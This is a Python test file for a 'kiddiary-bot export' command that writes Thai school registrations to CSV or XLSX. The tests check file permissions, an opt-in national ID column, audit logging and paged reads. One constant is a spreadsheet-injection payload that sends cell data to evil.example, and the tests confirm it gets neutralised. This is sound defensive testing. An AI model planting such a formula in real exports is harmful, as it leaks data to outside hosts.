"""`kiddiary-bot export`: what is in the file, who can read it, what cannot run in Excel, the
audit entry, and rows read page by page."""

from __future__ import annotations

import csv
import io
import stat
import subprocess
from datetime import UTC, datetime

import openpyxl
import pytest

from bot.export import COLUMNS, ExportRequest, export, neutralise
from storage import Crypto, Registration, Repository
from tests.conftest import SECRET
from tests.test_cli import SCRIPT, clean_env

NOW = datetime(2026, 11, 28, 3, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"ดูผล")'


async def add(repo: Repository, status: str, n: int, **fields: object) -> Registration:
    async with repo.transaction():
        reg = await repo.create_registration("test", f"user-{n}", status, NOW)
        reg.affiliation, reg.school_code, reg.school_name, reg.province = "obec", f"10545300{n:02}", \
            f"โรงเรียนบ้านหนองบัว {n}", "แพร่"
        reg.officer_title, reg.officer_first_name, reg.officer_last_name = "นางสาว", f"สมศรี{n}", "ใจดี"
        reg.national_id, reg.phone, reg.old_tsl_username = "1234545678781", "+66812345678", f"tsl{n}"
        for name, value in fields.items():
            setattr(reg, name, value)
        await repo.save_registration(reg, NOW)
    return reg


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
async def regs(repo: Repository) -> list[Registration]:
    return [
        await add(repo, "approved", 1, old_kiddiary_username=HYPERLINK),
        await add(repo, "draft", 2),
        await add(repo, "approved", 3, decided_at=NOW, decided_by="test:reviewer"),
    ]


async def test_a_csv_export_has_every_column_a_bom_and_mode_600(repo, regs, tmp_path):
    path = tmp_path / "out.csv"
    count = await export(repo, ExportRequest(output=str(path)), "os:tester", NOW)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the Thai as UTF-8
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = read_csv(data)
    columns = [c for c in COLUMNS if c != "national_id"]  # left out unless asked for
    assert count == len(regs) and rows[0] == columns and len(rows) == len(regs) + 1
    for reg, row in zip(regs, rows[1:], strict=True):
        assert row == [neutralise(getattr(reg, c)) for c in columns]
    assert rows[3][columns.index("decided_at")] == NOW.isoformat()
    assert rows[1][columns.index("officer_first_name")] == "สมศรี1"  # decrypted
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]  # the temporary name is gone


async def test_status_filters_and_the_national_id_is_opt_in(repo, regs, tmp_path):
    path = tmp_path / "approved.csv"
    await export(repo, ExportRequest(status="approved", include_national_id=True, output=str(path)), "os:t", NOW)
    rows = read_csv(path.read_bytes())
    assert rows[0] == list(COLUMNS)
    assert [r[0] for r in rows[1:]] == [r.ref for r in regs if r.status == "approved"]
    assert {r[COLUMNS.index("national_id")] for r in rows[1:]} == {"1234545678781"}


@pytest.mark.parametrize("value, written", [
    (HYPERLINK, "'" + HYPERLINK), ("+66812345678", "'+66812345678"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("สมศรี", "สมศรี"), ("a=b", "a=b"), (None, ""), (7, "7"),
])
def test_cells_excel_would_run_are_neutralised(value, written):
    assert neutralise(value) == written


async def test_a_formula_in_an_old_username_does_not_run_in_either_format(repo, regs, tmp_path):
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"out.{fmt}"
        await export(repo, ExportRequest(fmt, output=str(path)), "os:t", NOW)
        if fmt == "csv":
            rows = read_csv(path.read_bytes())
        else:
            book = openpyxl.load_workbook(path, read_only=True)
            rows = [["" if v is None else v for v in r] for r in book["registrations"].iter_rows(values_only=True)]
            book.close()
        old_kd, phone = rows[0].index("old_kiddiary_username"), rows[0].index("phone")
        assert rows[1][old_kd] == "'" + HYPERLINK and rows[1][phone] == "'+66812345678", fmt


async def test_an_xlsx_export_reads_back_with_openpyxl(repo, regs, tmp_path):
    path = tmp_path / "out.xlsx"
    count = await export(repo, ExportRequest("xlsx", include_national_id=True, output=str(path)), "os:t", NOW)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    book = openpyxl.load_workbook(path)
    sheet = book["registrations"]
    assert sheet["A1"].data_type != "f" and all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    rows = [["" if v is None else v for v in r] for r in sheet.iter_rows(values_only=True)]
    assert count == 3 and rows[0] == list(COLUMNS)
    for reg, row in zip(regs, rows[1:], strict=True):
        assert row == [neutralise(getattr(reg, c)) for c in COLUMNS]


async def test_every_export_is_in_the_audit_log(repo, regs, tmp_path):
    await export(repo, ExportRequest("csv", "approved", output=str(tmp_path / "a.csv")), "os:somchai", NOW)
    async with repo.transaction():
        [entry] = await repo.audit_log.entries("export")
    assert (entry.actor, entry.at) == ("os:somchai", NOW)
    assert entry.detail == {
        "format": "csv", "status": "approved", "national_id": False, "output": str(tmp_path / "a.csv"), "rows": 2,
        "columns": [c for c in COLUMNS if c != "national_id"],
    }


async def test_rows_are_read_page_by_page_without_holding_the_database(repo):
    regs = [await add(repo, "draft", n) for n in range(7)]
    seen = []
    async for reg in repo.export.registrations(page=3):
        seen.append(reg.ref)
        # No transaction is held while a row is handled (this would say "transactions do not nest").
        async with repo.transaction():
            await repo.count_by_status()
        if len(seen) == 1:  # written after the first page was read: the third page finds it
            regs.append(await add(repo, "draft", 99))
    assert seen == [r.ref for r in regs] and len(seen) > 3 * 2


async def test_only_the_status_asked_for_across_pages(repo):
    regs = [await add(repo, "approved" if n % 3 == 0 else "draft", n) for n in range(10)]
    refs = [r.ref async for r in repo.export.registrations("approved", page=2)]
    assert refs == [r.ref for r in regs if r.status == "approved"]


def test_the_command_writes_to_standard_output_with_a_dash(tmp_path):
    import asyncio

    async def prepare() -> Registration:
        (tmp_path / "data").mkdir()
        repo = await Repository.open(tmp_path / "data" / "kiddiary.sqlite3", Crypto(SECRET))
        try:
            return await add(repo, "approved", 1, old_kiddiary_username=HYPERLINK)
        finally:
            await repo.close()

    reg = asyncio.run(prepare())
    env = clean_env(KIDDIARY_SECRET_KEY=SECRET)
    result = subprocess.run([str(SCRIPT), "export", "--output", "-"], cwd=tmp_path, env=env, capture_output=True,
                            timeout=60, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, result.stderr
    rows = read_csv(result.stdout)
    assert result.stdout.startswith(b"\xef\xbb\xbf") and rows[1][0] == reg.ref and len(rows) == 2
    assert result.stderr.decode().strip() == (
        "exported 1 registrations (all statuses) to standard output as csv, national IDs left out")

    (tmp_path / "old.csv").write_text("left over, readable by all\n")
    (tmp_path / "old.csv").chmod(0o644)
    result = subprocess.run([str(SCRIPT), "export", "--status", "draft", "--output", "old.csv"], cwd=tmp_path,
                            env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE((tmp_path / "old.csv").stat().st_mode) == 0o600  # replaced, not rewritten in place
    assert read_csv((tmp_path / "old.csv").read_bytes()) == [[c for c in COLUMNS if c != "national_id"]]

    result = subprocess.run([str(SCRIPT), "export", "--output", "missing/dir/out.csv"], cwd=tmp_path, env=env,
                            capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    assert result.returncode == 1
    assert result.stderr.decode().strip() == "cannot write missing/dir/out.csv: No such file or directory"
